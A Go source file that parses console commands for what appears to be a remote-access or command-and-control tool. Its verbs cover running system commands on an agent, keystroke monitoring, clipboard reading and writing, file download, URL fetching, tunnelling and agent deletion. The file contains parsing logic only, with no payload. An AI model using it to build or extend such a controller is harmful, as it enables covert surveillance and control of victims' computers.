package services

import (
	"net"
	"strconv"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Command is one parsed line of console input.
type Command interface {
	isCommand()
}

type (
	HelpCommand        struct{}
	SystemCommand      struct{ Cmd string }
	FreezeCommand      struct{}
	UnfreezeCommand    struct{}
	DeleteTaskCommand  struct{ TaskID string }
	DeleteAgentCommand struct{}
	DownloadCommand    struct{ File string }
	WriteDirCommand    struct{ Dir string }
	KeymonCommand      struct{ Duration int }
	DelayCommand       struct{ Delay int }
	CdCommand          struct{ Dir string }
	TunnelCommand      struct {
		LocalHost  string
		LocalPort  int
		RemoteHost string
		RemotePort int
	}
	BridgeCommand struct {
		Host1 string
		Port1 int
		Host2 string
		Port2 int
	}
	TasksCommand     struct{}
	KillCommand      struct{ TaskID string }
	WebloadCommand   struct{ URL, File string }
	ClipReadCommand  struct{}
	ClipWriteCommand struct{ Text string }
	AbortCommand     struct{}
	// UnknownCommand is input that matches no verb.
	UnknownCommand struct{ Input string }
	// InvalidCommand is a known verb with bad arguments. Message is shown
	// on the console and no task is created.
	InvalidCommand struct{ Message string }
)

func (HelpCommand) isCommand()        {}
func (SystemCommand) isCommand()      {}
func (FreezeCommand) isCommand()      {}
func (UnfreezeCommand) isCommand()    {}
func (DeleteTaskCommand) isCommand()  {}
func (DeleteAgentCommand) isCommand() {}
func (DownloadCommand) isCommand()    {}
func (WriteDirCommand) isCommand()    {}
func (KeymonCommand) isCommand()      {}
func (DelayCommand) isCommand()       {}
func (CdCommand) isCommand()          {}
func (TunnelCommand) isCommand()      {}
func (BridgeCommand) isCommand()      {}
func (TasksCommand) isCommand()       {}
func (KillCommand) isCommand()        {}
func (WebloadCommand) isCommand()     {}
func (ClipReadCommand) isCommand()    {}
func (ClipWriteCommand) isCommand()   {}
func (AbortCommand) isCommand()       {}
func (UnknownCommand) isCommand()     {}
func (InvalidCommand) isCommand()     {}

const (
	msgInvalidPort = "Invalid port!"
	msgInvalidHost = "Invalid host!"
	msgOnlyHTTP    = "Only HTTP(s) URLs are supported!"
)

// ParseCommand parses one line of input. The "hive" prefix is handled by the
// dispatcher and must already be stripped.
func ParseCommand(input string) Command {
	input = strings.TrimSpace(input)
	verb, rest := splitVerb(input)
	unknown := UnknownCommand{Input: input}

	switch verb {
	case "help", "?":
		if rest == "" {
			return HelpCommand{}
		}
	case "system":
		if rest != "" {
			return SystemCommand{Cmd: rest}
		}
	case "freeze":
		if rest == "" {
			return FreezeCommand{}
		}
	case "unfreeze":
		if rest == "" {
			return UnfreezeCommand{}
		}
	case "tasks":
		if rest == "" {
			return TasksCommand{}
		}
	case "clipread":
		if rest == "" {
			return ClipReadCommand{}
		}
	case "abort":
		if rest == "" {
			return AbortCommand{}
		}
	case "delete":
		what, arg := splitVerb(rest)
		switch {
		case what == "task" && arg != "":
			return DeleteTaskCommand{TaskID: arg}
		case what == "agent" && arg == "":
			return DeleteAgentCommand{}
		}
	case "download":
		if rest != "" {
			return DownloadCommand{File: rest}
		}
	case "writedir":
		if rest != "" {
			return WriteDirCommand{Dir: rest}
		}
	case "cd":
		if rest != "" {
			return CdCommand{Dir: rest}
		}
	case "kill":
		if rest != "" {
			return KillCommand{TaskID: rest}
		}
	case "keymon":
		if rest == "" {
			break
		}
		secs, err := strconv.Atoi(rest)
		if err != nil || secs <= 0 {
			return InvalidCommand{Message: "Invalid keymon duration: " + rest}
		}
		return KeymonCommand{Duration: secs}
	case "delay":
		if rest == "" {
			break
		}
		secs, err := strconv.Atoi(rest)
		if err != nil || secs < 0 {
			return InvalidCommand{Message: "Invalid callback delay: " + rest}
		}
		return DelayCommand{Delay: secs}
	case "tunnel":
		if rest == "" {
			break
		}
		lhost, lport, rhost, rport, msg := parseEndpoints(rest)
		if msg != "" {
			return InvalidCommand{Message: msg}
		}
		return TunnelCommand{LocalHost: lhost, LocalPort: lport, RemoteHost: rhost, RemotePort: rport}
	case "bridge":
		if rest == "" {
			break
		}
		h1, p1, h2, p2, msg := parseEndpoints(rest)
		if msg != "" {
			return InvalidCommand{Message: msg}
		}
		return BridgeCommand{Host1: h1, Port1: p1, Host2: h2, Port2: p2}
	case "webload":
		if rest == "" {
			break
		}
		args := SplitArgs(rest)
		if len(args) != 2 {
			return InvalidCommand{Message: "Usage: webload <url> <file>"}
		}
		if !strings.HasPrefix(args[0], "http://") && !strings.HasPrefix(args[0], "https://") {
			return InvalidCommand{Message: msgOnlyHTTP}
		}
		return WebloadCommand{URL: args[0], File: args[1]}
	case "clipwrite":
		// Text is taken verbatim after the first separator.
		text := input[len(verb):]
		if _, size := utf8.DecodeRuneInString(text); size > 0 && len(text) > size {
			return ClipWriteCommand{Text: text[size:]}
		}
	}
	return unknown
}

// splitVerb cuts s at the first run of whitespace.
func splitVerb(s string) (string, string) {
	i := strings.IndexFunc(s, unicode.IsSpace)
	if i < 0 {
		return s, ""
	}
	return s[:i], strings.TrimSpace(s[i:])
}

// SplitArgs splits on whitespace. A backslash-escaped space is kept as part
// of the argument.
func SplitArgs(s string) []string {
	var (
		args []string
		cur  strings.Builder
		open bool
	)
	runes := []rune(s)
	for i := 0; i < len(runes); i++ {
		r := runes[i]
		switch {
		case r == '\\' && i+1 < len(runes) && runes[i+1] == ' ':
			cur.WriteRune(' ')
			open = true
			i++
		case unicode.IsSpace(r):
			if open {
				args = append(args, cur.String())
				cur.Reset()
				open = false
			}
		default:
			cur.WriteRune(r)
			open = true
		}
	}
	if open {
		args = append(args, cur.String())
	}
	return args
}

// parseEndpoints reads "<host>:<port> <host>:<port>". Ports are checked
// before hosts; msg is the console error when the input is rejected.
func parseEndpoints(s string) (h1 string, p1 int, h2 string, p2 int, msg string) {
	args := SplitArgs(s)
	if len(args) != 2 {
		return "", 0, "", 0, msgInvalidPort
	}
	h1, p1, ok1 := splitEndpoint(args[0])
	h2, p2, ok2 := splitEndpoint(args[1])
	if !ok1 || !ok2 {
		return "", 0, "", 0, msgInvalidPort
	}
	if h1 == "" || h2 == "" {
		return "", 0, "", 0, msgInvalidHost
	}
	return h1, p1, h2, p2, ""
}

func splitEndpoint(s string) (string, int, bool) {
	host, portStr, err := net.SplitHostPort(s)
	if err != nil {
		return "", 0, false
	}
	port, err := strconv.Atoi(portStr)
	if err != nil || port < 1 || port > 65535 {
		return "", 0, false
	}
	return strings.TrimSpace(host), port, true
}
